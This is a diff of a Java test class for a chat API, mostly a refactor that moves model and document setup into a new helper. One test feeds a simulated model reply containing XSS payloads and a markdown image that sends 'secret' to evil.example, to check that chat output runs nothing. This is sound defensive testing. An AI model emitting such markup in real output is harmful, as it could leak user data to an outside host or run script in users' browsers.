@@ -9,6 +9,7 @@ import dev.datastudio.agents.tool.Tools;
 import dev.datastudio.api.tenant.Caller;
 import dev.datastudio.api.tool.ToolResult;
 import dev.datastudio.app.AppServer;
+import dev.datastudio.app.Belongings;
 import dev.datastudio.app.Person;
 import dev.datastudio.app.identity.account.Sessions;
 import dev.datastudio.core.Studio;
@@ -71,12 +72,7 @@ class ChatRoutesTest {
     void dataAndDocumentsAreAskedInOneQuestion() {
         String data = ChatBench.orders(ada);
         byte[] terms = "Goods are sent back within thirty days.".getBytes(StandardCharsets.UTF_8);
-        String document = ada.sendFile("/api/v1/documents", "returns.txt", terms)
-                .is(202)
-                .json()
-                .path("id")
-                .asString();
-        ada.get("/api/v1/documents/" + document + "/events").is(200); // ends when it was read
+        Belongings.document(ada, "returns.txt", terms);
         String id = ChatBench.conversation(ada);
         String context = "'context':{'datasetIds':['" + data + "'],'documents':true}}";
 
@@ -109,7 +105,7 @@ class ChatRoutesTest {
 
     @Test
     void aModelHasTheToolsForDataAndForDocuments() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.text("Both."));
         String data = ChatBench.orders(ada);
         String id = ChatBench.conversation(ada);
@@ -127,7 +123,7 @@ class ChatRoutesTest {
 
     @Test
     void anAnswerIsStreamedUnderTheNamesThatClientsKnow() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.pieces("Forty", "-", "two"));
         String id = ChatBench.conversation(ada);
 
@@ -159,7 +155,7 @@ class ChatRoutesTest {
 
     @Test
     void aReconnectInMidStreamLosesNothingAndDoublesNothing() throws InterruptedException {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         CountDownLatch held = new CountDownLatch(1);
         server.inTurn(ModelReply.pieces("one ", "two ", "three ", "four").heldAfter(2, held));
         String id = ChatBench.conversation(ada);
@@ -194,7 +190,7 @@ class ChatRoutesTest {
 
     @Test
     void aClientThatGoesStopsNothingButAStopDoes() throws InterruptedException {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         CountDownLatch held = new CountDownLatch(1);
         server.inTurn(
                 ModelReply.pieces("kept ", "on").heldAfter(1, held),
@@ -224,7 +220,7 @@ class ChatRoutesTest {
 
     @Test
     void aMessageThatIsSentTwiceUnderOneKeyIsAskedOnce() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.text("Once."), ModelReply.text("Twice."));
         String id = ChatBench.conversation(ada);
         String key = UUID.randomUUID().toString();
@@ -277,7 +273,7 @@ class ChatRoutesTest {
     @Test
     @Timeout(60)
     void aStreamEndsWithTheSessionOfWhoeverFollowsIt() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         CountDownLatch held = new CountDownLatch(1);
         server.inTurn(ModelReply.pieces("Going ", "on.").heldAfter(1, held));
         String id = ChatBench.conversation(ada);
@@ -305,7 +301,7 @@ class ChatRoutesTest {
             written.incrementAndGet();
             return ToolResult.of("Written.");
         }));
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         JsonNode agent = ada.get("/api/v1/agents/data_analyst").is(200).json();
         ada.put(
                         "/api/v1/agents/data_analyst",
@@ -365,7 +361,7 @@ class ChatRoutesTest {
 
     @Test
     void branchesAreBegunShownAndChosen() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.text("First."), ModelReply.text("Second."), ModelReply.text("Third."));
         String id = ChatBench.conversation(ada);
         ada.post(messages(id), "{'message':'A?','agent':'data_analyst'}").is(200);
@@ -464,7 +460,7 @@ class ChatRoutesTest {
 
     @Test
     void whatComesOutOfAChatLoadsAndRunsNothing() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.text("![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>"
                 + " [click](javascript:alert(1)) <a href='javascript:alert(1)'>y</a> **bold**"));
         String id = ChatBench.conversation(ada);
@@ -497,7 +493,7 @@ class ChatRoutesTest {
 
     @Test
     void aModelThatFailsIsToldWithItsMend() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.error(500, "broken"));
         String id = ChatBench.conversation(ada);
 
